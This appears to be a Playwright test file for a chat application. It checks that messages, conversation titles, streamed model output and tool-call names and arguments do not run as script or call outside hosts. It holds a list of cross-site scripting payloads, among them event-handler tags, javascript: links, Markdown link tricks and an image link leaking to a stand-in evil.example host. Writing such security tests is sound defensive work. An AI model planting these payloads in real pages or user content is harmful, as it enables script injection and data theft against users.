import type { BrowserContext, Page } from '@playwright/test'

import { expect, test } from './support/fixtures'

/** Every one of them tells that it ran. */
const RUN = 'weirRan(1)'

/**
 * Known ways to make a page run what it should only show: elements, handlers, addresses, and what Markdown, its HTML or a parser's
 * repair may let through (after OWASP's filter evasion cheat sheet and PortSwigger's).
 */
const PAYLOADS = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="x" onerror="${RUN}"/>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<math><mtext></p><img src=x onerror=${RUN}></mtext></math>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<style>@import 'javascript:${RUN}';</style><div style="background:url(javascript:${RUN})">x</div>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<base href="https://evil.example/">`,
  `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
  `<a href="javascript:${RUN}">click</a>`,
  `[click](javascript:${RUN})`,
  `[click](JaVaScRiPt:${RUN})`,
  `[click](&#106;avascript:${RUN})`,
  `[click](java\tscript:${RUN})`,
  `[click](\u0001javascript:${RUN})`,
  `[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[click](vbscript:${RUN})`,
  `[click]: javascript:${RUN}\n\n[click]`,
  `<javascript:${RUN}>`,
  `![picture](x "onerror=${RUN}")`,
  `![picture](https://evil.example/?stolen "x")`,
  `![picture](javascript:${RUN})`,
  `\`\`\`html\n<img src=x onerror=${RUN}>\n\`\`\``,
  `\`\`\`"><img/src/onerror=${RUN}>\nx\n\`\`\``,
  `| <img src=x onerror=${RUN}> |\n|---|\n| <svg onload=${RUN}> |`,
  `# <img src=x onerror=${RUN}>`,
  `[^1]\n\n[^1]: <img src=x onerror=${RUN}>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `\u202e<img src=x onerror=${RUN}>`,
]

/** What of it ran, was asked of other servers, or opened a dialog. */
async function watch(context: BrowserContext, ownUrl: string): Promise<string[]> {
  const seen: string[] = []
  await context.exposeBinding('weirRan', ({ frame }) => seen.push(`ran in ${frame.url()}`))
  context.on('request', (request) => {
    const url = request.url()
    if (!url.startsWith(ownUrl) && !/^(data|blob):/.test(url)) seen.push(`asked for ${url}`)
  })
  const watchPage = (page: Page) => {
    page.on('dialog', (dialog) => {
      seen.push(`opened a dialog: ${dialog.message()}`)
      void dialog.dismiss()
    })
  }
  context.on('page', watchPage)
  context.pages().forEach(watchPage)
  return seen
}

/** The addresses of all links of a page whose scheme could run something. */
async function livelyLinks(page: Page): Promise<string[]> {
  const links = await page
    .locator('a[href]')
    .evaluateAll((all) => all.map((link) => (link as HTMLAnchorElement).href))
  return links.filter((href) => !/^(https?|mailto|tel):/.test(href))
}

test('nothing of what people and models write runs', async ({
  api,
  baseURL,
  chat,
  context,
  upstream,
}) => {
  const seen = await watch(context, baseURL ?? '')
  const id = await api.conversation(`Payloads <img src=x onerror=${RUN}>`)
  await api.messages(
    id,
    PAYLOADS.flatMap((payload) => [payload, payload]),
  )
  await chat.open(id)
  await expect(chat.questions.last()).toBeVisible()
  // Long lists show what is near; all of it is to be drawn once.
  for (
    let turn = 0;
    turn < 40 && (await chat.list.evaluate((list) => list.scrollTop)) > 0;
    turn += 1
  ) {
    expect(await livelyLinks(chat.page)).toEqual([])
    await chat.list.evaluate((list) => {
      list.scrollBy(0, -list.clientHeight)
    })
  }
  expect(await livelyLinks(chat.page)).toEqual([])

  // Streamed, each piece of it is parsed again as it grows.
  upstream.next({ text: PAYLOADS.join('\n\n'), rate: 2_000 })
  await chat.say('Say all of it')
  await chat.expectEnding('complete')
  expect(await livelyLinks(chat.page)).toEqual([])
  await chat.page.reload()
  await expect(chat.answers.last()).toContainText('onerror')
  expect(seen).toEqual([])
})

test('nothing in the names of things runs, wherever they are shown', async ({
  api,
  baseURL,
  chat,
  context,
  problems,
}) => {
  problems.expect(/status of (404|422)/)
  const seen = await watch(context, baseURL ?? '')
  for (const payload of PAYLOADS) await api.conversation(payload.slice(0, 200))
  await chat.open()
  await expect(chat.conversations.first()).toBeVisible()
  await chat.history.evaluate((list) => {
    list.scrollTo(0, list.scrollHeight)
  })
  for (const address of ['/chat?c=', '/tools?tool=', '/nowhere?q=', '/chat#', '/']) {
    await chat.page.goto(address + encodeURIComponent(`"><img src=x onerror=${RUN}>`))
    await expect(chat.page.locator('body')).toBeVisible()
  }
  expect(seen).toEqual([])
})

test('nothing of what tools are called and give runs', async ({
  baseURL,
  chat,
  context,
  page,
  request,
  upstream,
}) => {
  const seen = await watch(context, baseURL ?? '')
  const code = PAYLOADS.map((payload) => `console.log(${JSON.stringify(payload)})`).join('\n')
  upstream
    .next({
      text: 'Let me see.',
      calls: [
        { name: 'run_code', args: { code } },
        { name: `<img src=x onerror=${RUN}>`, args: { [`<img src=x onerror=${RUN}>`]: PAYLOADS } },
      ],
    })
    .finish()
  upstream.next({ text: 'That was all.' }).finish()
  await request.put('/api/tools/run_code/permission', { data: { permission: 'allow' } })
  await chat.open()
  await chat.say('Call it')
  await chat.expectEnding('complete')
  for (const card of await page.locator('[data-tool-call]').all()) {
    await card.getByRole('button', { expanded: false }).first().click()
  }
  await expect(page.locator('[data-tool-call="run_code"]')).toContainText('onerror')
  expect(await livelyLinks(page)).toEqual([])
  await page.goto('/tools?view=activity')
  await expect(page.getByRole('list', { name: 'What ran, newest first' })).toBeVisible()
  expect(seen).toEqual([])
})
